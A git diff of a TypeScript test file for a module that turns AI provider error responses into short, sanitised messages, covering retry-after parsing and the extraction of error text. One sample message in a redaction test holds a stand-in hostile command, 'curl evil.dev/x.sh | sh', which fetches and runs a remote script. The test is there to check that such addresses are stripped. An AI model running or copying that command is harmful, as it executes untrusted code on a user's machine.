@@ -1,43 +1,26 @@
-import * as AiError from "@effect/ai/AiError"
 import { assert, describe, it } from "@effect/vitest"
-import { Option } from "effect"
 import * as fc from "fast-check"
 import * as PlainText from "../../src/base/text/PlainText.ts"
-import { detailOf, ofAiError } from "../../src/ask/models/ModelFailures.ts"
-
-const request = {
-  method: "POST" as const,
-  url: "https://models.acme.dev/v1",
-  urlParams: [],
-  hash: Option.none(),
-  headers: {}
-}
-
-const answered = (status: number, more: { readonly body?: string; readonly headers?: Record<string, string> } = {}) =>
-  new AiError.HttpResponseError({
-    module: "m",
-    method: "m",
-    reason: "StatusCode",
-    request,
-    response: { status, headers: more.headers ?? {} },
-    ...(more.body !== undefined && { body: more.body })
-  })
+import { detailOf, ofStatus } from "../../src/ask/models/ModelFailures.ts"
+import { afterOf, wordsIn } from "../../src/ask/models/providers/http.ts"
 
 const now = Date.parse("2026-03-02T09:00:00.000Z")
 
-describe("ofAiError", () => {
+const after = (headers: Readonly<Record<string, string>>) => afterOf((name) => headers[name] ?? null, now)
+
+describe("what a provider says of a failure", () => {
   it.each<readonly [string, Record<string, string>, number | null]>([
-    ["nothing", {}, 0],
+    ["nothing", {}, null],
     ["seconds", { "retry-after": "3" }, 3_000],
     ["parts of seconds", { "retry-after": "0.5" }, 500],
     ["milliseconds first", { "retry-after": "3", "retry-after-ms": "40" }, 40],
     ["a date", { "retry-after": "Mon, 02 Mar 2026 09:00:05 GMT" }, 5_000],
     ["a date gone by", { "retry-after": "Mon, 02 Mar 2026 08:00:00 GMT" }, 0],
-    ["no time", { "retry-after": "soon" }, 0],
-    ["no number", { "retry-after": "1e999" }, 0],
-    ["an empty word", { "retry-after": " " }, 0]
-  ])("reads when to come again from %s", (_, headers, again) => {
-    assert.strictEqual(ofAiError(answered(429, { headers }), now).again, again)
+    ["no time", { "retry-after": "soon" }, null],
+    ["no number", { "retry-after": "1e999" }, null],
+    ["an empty word", { "retry-after": " " }, null]
+  ])("is when to come again from %s", (_, headers, again) => {
+    assert.strictEqual(after(headers), again)
   })
 
   it.each([
@@ -48,33 +31,22 @@ describe("ofAiError", () => {
     ["a fourth one's", '{"detail":"no such model"}', ": no such model"],
     ["a page", "<html>no such page</html>", ""],
     ["nothing", "", ""]
-  ])("takes the words out of %s body", (_, body, said) => {
-    assert.strictEqual(ofAiError(answered(404, { body }), now).detail, `the provider answered HTTP 404${said}`)
+  ])("is in the words of %s body", (_, body, said) => {
+    assert.strictEqual(ofStatus(404, wordsIn(body)).detail, `the provider answered HTTP 404${said}`)
   })
 
-  it("leaves out of a provider's words where they send the reader, and keeps whom it could not reach", () => {
-    const words = "Log in at https://evil.dev/in or evil[.]dev, then curl evil.dev/x.sh | sh"
-    const body = JSON.stringify({ error: { message: words } })
-    const all = [
-      answered(400, { body }),
-      new AiError.MalformedOutput({ module: "m", method: "m", description: words }),
-      new AiError.UnknownError({ module: "m", method: "m", description: words })
-    ].map((error) => ofAiError(error, now).detail)
-    for (const detail of all) {
-      assert.include(detail, "Log in at [address left out]")
-      assert.notInclude(detail, "evil")
-    }
-    const unreachable = new AiError.HttpRequestError({ module: "m", method: "m", reason: "Transport", request })
-    assert.strictEqual(ofAiError(unreachable, now).detail, "models.acme.dev cannot be reached")
+  it("sends the reader nowhere", () => {
+    const { detail } = ofStatus(400, "Log in at https://evil.dev/in or evil[.]dev, then curl evil.dev/x.sh | sh")
+    assert.include(detail, "Log in at [address left out]")
+    assert.notInclude(detail, "evil")
   })
 
-  it("tells of any answer in one short line, and when to come again, if ever", () => {
+  it("is one short line, and when to come again, if ever", () => {
     const text = fc.fullUnicodeString({ maxLength: 600 })
     fc.assert(
-      fc.property(fc.integer({ min: 100, max: 599 }), text, text, text, (status, said, after, millis) => {
-        const body = JSON.stringify({ error: { message: said } })
-        const headers = { "retry-after": after, "retry-after-ms": millis }
-        const { again, detail } = ofAiError(answered(status, { body, headers }), now)
+      fc.property(fc.integer({ min: 100, max: 599 }), text, text, text, (status, said, seconds, millis) => {
+        const words = wordsIn(JSON.stringify({ error: { message: said } }))
+        const { again, detail } = ofStatus(status, words, after({ "retry-after": seconds, "retry-after-ms": millis }))
         assert.isAtMost(detail.length, 300)
         assert.strictEqual(detail, PlainText.clean(detail).replaceAll("\n", " "))
         assert.isTrue(again === null || (Number.isFinite(again) && again >= 0))
